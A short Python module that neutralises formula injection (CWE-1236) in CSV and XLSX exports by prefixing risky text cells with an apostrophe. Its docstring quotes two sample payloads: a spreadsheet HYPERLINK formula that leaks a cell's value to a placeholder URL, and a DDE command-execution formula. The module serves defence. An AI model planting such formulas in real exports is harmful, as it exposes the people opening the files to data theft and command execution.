"""The one rule against formula injection in CSV and XLSX exports (CWE-1236).

A spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
(`=HYPERLINK("http://…?leak="&A2,"Cliquez")`, `=cmd|' /C calc'!A0`). Every export writes its text cells
through `neutralise_cell`, which prefixes such a text with an apostrophe, so the spreadsheet shows it as text.

Only text is neutralised: numbers, dates and booleans are written as they are (a negative number stays a
number). Exports that hold every value as text (the CNIG CSV layouts) pass only their text columns here — a
numeric, date or coordinates column of the standard keeps `-4.5` as the standard requires (see
`tandem.land.exports`). GeoJSON and GeoPackage files are not spreadsheets and are written raw.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    """`value` unchanged unless it is a text a spreadsheet would evaluate as a formula; then `'` + text."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_row(row: Iterable) -> list:
    """Every cell of a row through `neutralise_cell`."""
    return [neutralise_cell(value) for value in row]
